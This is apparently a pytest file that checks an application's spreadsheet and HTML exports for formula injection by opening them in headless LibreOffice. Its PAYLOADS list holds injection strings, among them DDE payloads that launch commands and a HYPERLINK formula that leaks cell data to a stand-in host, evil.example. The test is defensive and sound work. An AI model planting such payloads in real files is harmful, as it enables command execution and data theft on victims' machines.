"""Opens every kind of table the product gives away with LibreOffice, full of what calculates (`make papers-opened`)."""

import io
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import count, product
from pathlib import Path
from xml.etree.ElementTree import Element

import pytest
from defusedxml.ElementTree import parse
from openpyxl import Workbook

from competence.db import db
from competence.people.models import Person
from competence.web.bilingual import Bilingual
from competence.web.tables.cells import Column, Row, Table, words
from competence.web.tables.files import write
from tests.cast import Cast
from tests.client import InspectingClient
from tests.conftest import say_at_the_end
from tests.learning import make_offer
from tests.plans import make_goal, make_plan

# OWASP WSTG, INPV-21: what begins a formula, alone and behind what breaks out of a cell.
BEGINNINGS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", *"＝＋－＠")
BREAK_OUTS = ("", "a;", "a,", '"', 'a";', "a\r\n")
PAYLOADS = [f"{out}{begin}1+1" for out, begin in product(BREAK_OUTS, BEGINNINGS)] + [
    '=HYPERLINK("https://evil.example/?"&A1;"se her")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "''=1+1",
    '"=1+1"', '";=1+1;"', "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "-2+3+cmd|' /C calc'!D2", "%0A=1+1", "=1+1\r\n=2+2",
]  # fmt: skip
TABLE, TEXT = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}", "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
# How LibreOffice reads each kind and saves it again: what parts cells, in UTF-8; when reading all lines, with Danish
# numbers, and calculating what is a formula.
READ = "CSV:{},34,76,1,,1030,false,true,false,false,false,-1,true"
SAVED = "csv:Text - txt - csv (StarCalc):{},34,76,1"
KINDS = {
    "semicolons.csv": (READ.format(59), SAVED.format(59)),
    "commas.csv": (READ.format(44), SAVED.format(44)),
    "xlsx": ("", "xlsx"),
    "html": ("HTML (StarCalc)", "html:HTML (StarCalc)"),
}


@dataclass(frozen=True)
class Opened:
    """What LibreOffice made of a file: the cells it calculates, and the texts of all others."""

    formulas: list[str]
    texts: list[str]


def soffice() -> str:
    """Return where LibreOffice is; without it nothing is passed over."""
    found = shutil.which("soffice")
    if found is None:
        pytest.fail("LibreOffice is needed. On Debian: apt install libreoffice-calc", pytrace=False)
    return found


FULL = ("figures", "offers", "package")  # the payloads stand in these; the record says what we wrote ourselves


def convert(folder: Path, file: Path, read_as: str, save_as: str) -> Path:
    """Open a file as somebody would, save it as another kind, and return where."""
    kind = save_as.partition(":")[0]
    out = folder / f"as-{kind}"
    command = [soffice(), "--headless", f"-env:UserInstallation=file://{folder.parent}/profile"]
    infilter = [f"--infilter={read_as}"] if read_as else []
    told = subprocess.run(
        [*command, "--convert-to", save_as, *infilter, "--outdir", out, file],
        check=True, capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    saved = out / f"{file.stem}.{kind}"
    assert saved.exists(), told.stdout + told.stderr
    return saved


def opened(folder: Path, kind: str, content: bytes, *, again: bool = False) -> Opened:
    """Open a file of one of KINDS and return what became of it; again: when it was saved and closed once."""
    read_as, save_as = KINDS[kind]
    folder.mkdir(parents=True)
    file = folder / f"file.{kind.rpartition('.')[2]}"
    file.write_bytes(content)
    if again:
        file = convert(folder, file, read_as, save_as)
    return read(convert(folder, file, read_as, "fods"))


def read(file: Path) -> Opened:
    """Return what stands in the cells of a flat OpenDocument spreadsheet."""
    cells = list(parse(file).iter(f"{TABLE}table-cell"))
    formulas = [cell.attrib[f"{TABLE}formula"] for cell in cells if f"{TABLE}formula" in cell.attrib]
    return Opened(formulas, [text for cell in cells if (text := "\n".join(map(_line, cell.iter(f"{TEXT}p"))))])


def _line(element: Element) -> str:
    signs = {f"{TEXT}tab": "\t", f"{TEXT}line-break": "\n", f"{TEXT}s": " " * int(element.get(f"{TEXT}c", "1"))}
    inside = "".join(_line(child) + (child.tail or "") for child in element)
    return signs.get(element.tag, "") + (element.text or "") + inside


def flat(text: str) -> str:
    """Return a text as it is compared: without apostrophes that guard it, lines and spaces as any others."""
    return " ".join(text.lstrip("'").split())


def figures(kind: str) -> bytes:
    """A page of figures as a file, in every part of which somebody wrote a formula."""
    rows = tuple(Row(one, (words(one), words("1"))) for one in PAYLOADS)
    return write(kind, PAYLOADS, Table(PAYLOADS[0], tuple(Column(one) for one in PAYLOADS[:2]), rows))


@pytest.fixture(scope="session")
def folders(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """A new folder each time, beside one profile of LibreOffice: its first start takes longest."""
    base = tmp_path_factory.mktemp("opened")
    return (base / str(number) for number in count())


@pytest.fixture
def files(cast: Cast, client_as: Callable[[Person], InspectingClient]) -> dict[str, bytes]:
    """Every kind of table the product gives away, full of what calculates; by its name with its kind."""
    plan = make_plan(cast.astrid, cast.bo)
    for number, one in enumerate(PAYLOADS):
        make_offer(cast, f"offer{number}").title = Bilingual(one, one)
        make_goal(plan, one)
    db.session.commit()
    carla, didrik = client_as(cast.carla), client_as(cast.didrik)
    package = client_as(cast.astrid).post("/privacy/mine/package").data
    return {
        "figures.semicolons.csv": figures("csv"),
        "figures.xlsx": figures("xlsx"),
        "offers.commas.csv": carla.get("/admin/imports/offers.csv").data,
        "offers.xlsx": carla.get("/admin/imports/offers.xlsx").data,
        "record.semicolons.csv": didrik.get("/privacy/record/file").data,
        "package.html": zipfile.ZipFile(io.BytesIO(package)).read("index.html"),
    }


@pytest.mark.plain
def test_nothing_that_is_taken_away_is_calculated_and_all_of_it_is_there(files, folders):
    cells = 0
    for name, content in files.items():
        what, _, kind = name.partition(".")
        for again in (False, True):
            found = opened(next(folders), kind, content, again=again)
            assert found.formulas == [], (name, again)
            lost = {flat(one) for one in PAYLOADS} - {flat(text) for text in found.texts}
            assert what not in FULL or lost == set(), (name, again)
            cells += len(found.texts)
    say_at_the_end(f"LibreOffice: {len(files)} files opened, saved and opened again, {cells} cells, none calculated")


@pytest.mark.parametrize("kind", KINDS)
def test_what_is_calculated_is_found(kind, folders):
    book, live = Workbook(), io.BytesIO()
    book.active["A1"] = "=1+1"
    book.save(live)
    of_text = b"<!doctype html><p>=1+1</p>" if kind == "html" else b"=1+1\r\n"
    content = live.getvalue() if kind == "xlsx" else of_text
    assert opened(next(folders), kind, content).formulas == ["of:=1+1"]
